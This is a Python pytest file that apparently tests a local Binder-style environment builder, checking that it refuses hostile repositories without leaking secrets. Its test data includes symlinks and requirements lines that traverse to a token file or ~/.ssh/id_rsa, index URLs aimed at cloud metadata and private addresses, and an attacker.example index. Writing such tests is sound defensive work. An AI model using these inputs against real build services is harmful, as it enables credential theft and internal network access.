"""The local builder never reads or writes outside the checkout and fetches only from public
hosts: real repositories with hostile links and requirements, built by the real VenvBuilder.

Every refusal is checked for its side effects: the secret it aimed at appears in no message
or log, the file it aimed at keeps its mode, no index was contacted, and no code ran.
"""

from __future__ import annotations

import os
import socket
import stat
import subprocess
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from skybinder.adapters.local.venv_builder import VenvBuilder
from skybinder.adapters.providers.guard import UrlGuard
from tests.containment import containment
from tests.integration.test_venv_builder import BASE, GIT, Finished, build, commit, messages

SECRET = "admin-token-value-that-must-not-leak"


class Index:
    """A package index on this machine that records every request it gets."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        index = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                index.requests.append(self.path)
                self.send_response(404)
                self.end_headers()

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/simple/"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture
def index() -> Iterator[Index]:
    found = Index()
    yield found
    found.server.shutdown()
    found.server.server_close()


def fake_dns(host: str, port: int, *args: Any) -> list[tuple[Any, ...]]:
    """internal.example is on a private network; everything else has a public address."""
    address = "10.1.2.3" if host == "internal.example" else "93.184.216.34"
    return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (address, port))]


@pytest.fixture
def data(tmp_path: Path) -> Path:
    data = tmp_path / "data"
    data.mkdir()
    (data / "admin-token").write_text(SECRET + "\n")
    return data


@pytest.fixture
def builder(data: Path, finished: Finished) -> VenvBuilder:
    guard = UrlGuard(allow_local=False, getaddrinfo=fake_dns)
    return VenvBuilder(
        data, finished, base_packages=BASE, url_guard=guard, containment=containment()
    )


@pytest.fixture
def finished() -> Finished:
    return Finished()


def with_links(repo: Path, files: dict[str, str], links: dict[str, str]) -> str:
    """Commit `files` and the symbolic links `links` (name -> target) into `repo`."""
    commit(repo, files or {"README.md": "x\n"})
    for name, target in links.items():
        path = repo / name
        path.parent.mkdir(parents=True, exist_ok=True)
        os.symlink(target, path)
    subprocess.run([*GIT, "-C", str(repo), "add", "--all"], check=True)
    subprocess.run([*GIT, "-C", str(repo), "commit", "--quiet", "-m", "links"], check=True)
    head = ["git", "-C", str(repo), "rev-parse", "HEAD"]
    return subprocess.run(head, check=True, capture_output=True, text=True).stdout.strip()


def refused(builder: VenvBuilder, finished: Finished, repo: Path, sha: str) -> str:
    """Build `repo`, expect a refusal; return its reason, after checking nothing leaked."""
    ok, reason, build_id = build(builder, finished, repo, sha)
    assert not ok
    assert SECRET not in reason and SECRET not in messages(builder, build_id)
    assert builder.layout.load(f"skybinder-test-{repo.name}:{sha}") is None
    return reason


# The checkout is built in <data>/images/<image>/source.tmp-<x>/: three levels up is <data>.
TO_DATA = "../../../admin-token"


@pytest.mark.parametrize("name", ["runtime.txt", "requirements.txt", "binder/runtime.txt"])
def test_a_config_file_linked_out_of_the_checkout_is_refused(
    builder: VenvBuilder, finished: Finished, tmp_path: Path, name: str
) -> None:
    repo = tmp_path / "linked"
    target = ("../" if "/" in name else "") + TO_DATA
    sha = with_links(repo, {}, {name: target})
    reason = refused(builder, finished, repo, sha)
    assert reason.startswith(f"{name} is a symbolic link that leads outside the repository")


def test_a_binder_folder_linked_out_of_the_checkout_is_refused(
    builder: VenvBuilder, finished: Finished, tmp_path: Path
) -> None:
    outside = tmp_path / "elsewhere"
    mark = tmp_path / "ran"
    commit(outside, {"postBuild": f"touch {mark}\n"})
    repo = tmp_path / "folder"
    sha = with_links(repo, {}, {"binder": str(outside)})
    assert refused(builder, finished, repo, sha).startswith("binder is a symbolic link")
    assert not mark.exists()


@pytest.mark.parametrize("name", ["start", "postBuild"])
def test_a_script_linked_to_a_file_of_the_user_is_neither_run_nor_made_executable(
    builder: VenvBuilder, finished: Finished, tmp_path: Path, name: str
) -> None:
    victim = tmp_path / "victim.sh"
    mark = tmp_path / "ran"
    victim.write_text(f"#!/bin/sh\ntouch {mark}\n")
    victim.chmod(0o600)
    repo = tmp_path / name.lower()
    sha = with_links(repo, {"requirements.txt": ""}, {name: str(victim)})
    assert refused(builder, finished, repo, sha).startswith(f"{name} is a symbolic link")
    assert stat.S_IMODE(victim.stat().st_mode) == 0o600 and not mark.exists()


@pytest.mark.parametrize(
    "line",
    [
        f"-r {TO_DATA}",
        "--requirement=../../../admin-token",
        "-c ../../../admin-token",
        "-r {secret}",
        "-e ../outside",
        "--editable=/tmp",
        "--find-links {data}",
        "pkg @ file://{secret}",
        "file://{secret}",
        "~/.ssh/id_rsa",
    ],
)
def test_requirements_pointing_out_of_the_checkout_are_refused_before_uv_runs(
    builder: VenvBuilder, finished: Finished, tmp_path: Path, data: Path, line: str
) -> None:
    line = line.format(secret=data / "admin-token", data=data)
    repo = tmp_path / "reqs"
    index = "--index-url https://attacker.example/simple/"  # a public host: allowed as such
    sha = commit(repo, {"requirements.txt": f"{index}\nsix\n{line}\n"})
    ok, reason, build_id = build(builder, finished, repo, sha)
    assert not ok and SECRET not in reason and SECRET not in messages(builder, build_id)
    assert reason.startswith("requirements.txt line 3 points outside the repository"), reason
    assert line in reason
    assert "Installing" not in messages(builder, build_id)  # uv never ran: nothing was sent


@pytest.mark.parametrize(
    "line",
    [
        "--index-url {index}",
        "-i {index}",
        "--extra-index-url http://internal.example/simple",
        "--find-links http://169.254.169.254/latest/",
        "-f http://[::1]:9/",
        "pkg @ https://10.0.0.7/pkg.whl",
        "git+http://localhost/repo.git#egg=pkg",
        "-e git+http://192.168.1.1/x.git#egg=x",
    ],
)
def test_requirements_pointing_at_the_local_network_are_refused(
    builder: VenvBuilder, finished: Finished, tmp_path: Path, index: Index, line: str
) -> None:
    line = line.format(index=index.url)
    repo = tmp_path / "net"
    sha = commit(repo, {"requirements.txt": f"six\n{line}\n"})
    reason = refused(builder, finished, repo, sha)
    assert reason.startswith("requirements.txt line 2 points the builder at an address"), reason
    assert index.requests == []


def test_a_nested_requirements_file_is_checked_too(
    builder: VenvBuilder, finished: Finished, tmp_path: Path
) -> None:
    repo = tmp_path / "nested"
    files = {"requirements.txt": "-r reqs/more.txt\n", "reqs/more.txt": "six\n-r ../../x.txt\n"}
    reason = refused(builder, finished, repo, commit(repo, files))
    assert reason.startswith("reqs/more.txt line 2 points outside the repository")


def test_requirements_inside_the_checkout_build(
    builder: VenvBuilder, finished: Finished, tmp_path: Path
) -> None:
    repo = tmp_path / "fine"
    files = {"requirements.txt": "-r reqs/more.txt  # inside\n", "reqs/more.txt": "six\n"}
    ok, reason, _ = build(builder, finished, repo, commit(repo, files))
    assert ok, reason


def test_a_message_quotes_the_offending_line_never_the_file(
    builder: VenvBuilder, finished: Finished, tmp_path: Path
) -> None:
    repo = tmp_path / "runtime"
    sha = commit(repo, {"runtime.txt": f"not-a-runtime\n{SECRET}\n"})
    reason = refused(builder, finished, repo, sha)
    assert "says 'not-a-runtime'" in reason


def test_post_build_sees_a_clean_environment(
    data: Path, finished: Finished, tmp_path: Path
) -> None:
    environ = {
        **os.environ,
        "SKYBINDER_GITHUB_TOKEN": "ghp_serve",
        "GITHUB_TOKEN": "ghp_fallback",
        "AWS_SECRET_ACCESS_KEY": "aws-secret",
        "AWS_SESSION_TOKEN": "aws-session",
        "PASSED_ON": "by-name",
    }
    builder = VenvBuilder(
        data,
        finished,
        base_packages=BASE,
        environ=environ,
        pass_env=["PASSED_ON", "UNSET"],
        containment=containment(),
    )
    repo = tmp_path / "env"
    sha = commit(repo, {"postBuild": 'env > "$REPO_DIR/seen.env"\n', "requirements.txt": ""})
    ok, reason, _ = build(builder, finished, repo, sha)
    assert ok, reason
    image = builder.layout.load(f"skybinder-test-env:{sha}")
    assert image is not None
    seen = dict(
        line.split("=", 1) for line in (Path(image.source) / "seen.env").read_text().splitlines()
    )
    assert not {"SKYBINDER_GITHUB_TOKEN", "GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY"} & set(seen)
    assert not any(value in {"ghp_serve", "aws-session"} for value in seen.values())
    assert seen["PASSED_ON"] == "by-name" and "UNSET" not in seen
    assert seen["REPO_DIR"] == seen["HOME"] == image.source and seen["VIRTUAL_ENV"] == image.env
    assert seen["PATH"].startswith(f"{image.source}/.local/bin:{image.env}/bin:") and seen["LANG"]
